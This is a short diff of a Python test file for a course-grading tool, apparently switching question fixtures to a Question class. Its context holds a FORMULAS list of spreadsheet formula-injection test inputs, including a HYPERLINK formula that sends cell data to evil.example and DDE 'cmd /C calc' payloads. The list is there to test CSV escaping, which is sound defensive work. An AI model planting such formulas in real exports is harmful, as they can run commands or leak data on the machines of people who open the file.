@@ -15,6 +15,7 @@ import pytest
 
 from helpers import ASSIGNMENT, ROOT, package_grade
 from coursegrader.classroom import gradebook, similarity
+from coursegrader.core.assignment import Question
 from coursegrader.classroom.misconceptions import Misconception, misconceptions_csv
 from coursegrader.core.results import Graded, grades_csv
 from coursegrader.core.spreadsheet import FORMULA_STARTS, csv_text, needs_guard, safe_cell
@@ -23,8 +24,7 @@ PACKAGE = ROOT / "coursegrader"
 # what students may put in an LMS profile (a display name, a section) and what other fields may hold
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"成绩")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
             "\t=1+1", "\r=1+1", "=1+1", "-", "@"]
-QUESTIONS = [{"name": "w1", "points": 1, "manual": False, "checks": ["test_w1"]},
-             {"name": "e1c", "points": 2, "manual": True, "checks": []}]
+QUESTIONS = [Question("w1", 1, False, ("test_w1",)), Question("e1c", 2, True)]
 
 
 def formula_cells(text: str) -> list[str]:
